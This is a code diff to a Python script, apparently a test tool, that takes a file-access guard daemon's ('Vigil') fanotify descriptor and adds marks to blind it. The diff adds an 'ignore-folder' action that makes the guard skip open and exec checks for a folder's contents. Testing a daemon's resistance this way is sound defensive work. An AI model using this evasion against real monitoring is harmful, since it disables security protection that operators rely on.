@@ -9,6 +9,9 @@ Usage: fanotify_attack.py PID GROUP ACTION [PATH]
           remove-fs     FAN_MARK_REMOVE of the filesystem mark of PATH
           ignore-fs     an ignore mask (open and exec) on the filesystem mark of PATH
           ignore-inode  an ignore mark (open and exec, surviving writes) on the file PATH
+          ignore-folder an ignore mark for the entries of the folder PATH (open and exec,
+                        FAN_EVENT_ON_CHILD, evictable, surviving writes): the very shape of
+                        the marks Vigil puts on folders outside the guarded ones
           freeze-flush  SIGSTOP of the daemon, then flush (no probe open is left waiting on the
                         stopped daemon in between: the flush follows in microseconds)
           remark-hold   keep the copy of the fd and, for SECONDS (argument 5), add the guard's
@@ -25,6 +28,7 @@ SYS_pidfd_open, SYS_pidfd_getfd = 434, 438
 FAN_MARK_ADD, FAN_MARK_REMOVE, FAN_MARK_FLUSH = 0x1, 0x2, 0x80
 FAN_MARK_MOUNT, FAN_MARK_FILESYSTEM = 0x10, 0x100
 FAN_MARK_IGNORED_SURV_MODIFY, FAN_MARK_IGNORE = 0x40, 0x400
+FAN_MARK_EVICTABLE, FAN_EVENT_ON_CHILD = 0x200, 0x08000000
 FAN_OPEN_PERM, FAN_OPEN_EXEC_PERM, FAN_CLOSE_WRITE = 0x10000, 0x40000, 0x8
 
 
@@ -88,6 +92,9 @@ def main():
             time.sleep(0.01)
     elif action == "ignore-inode":
         mark(fd, FAN_MARK_ADD | FAN_MARK_IGNORE | FAN_MARK_IGNORED_SURV_MODIFY, FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM, path)
+    elif action == "ignore-folder":
+        mark(fd, FAN_MARK_ADD | FAN_MARK_IGNORE | FAN_MARK_EVICTABLE | FAN_MARK_IGNORED_SURV_MODIFY,
+             FAN_OPEN_PERM | FAN_OPEN_EXEC_PERM | FAN_EVENT_ON_CHILD, path)
     else:
         sys.exit(f"unknown action {action}")
     print(f"{action} on {group} group (daemon fd {target}, ours {fd}) done")
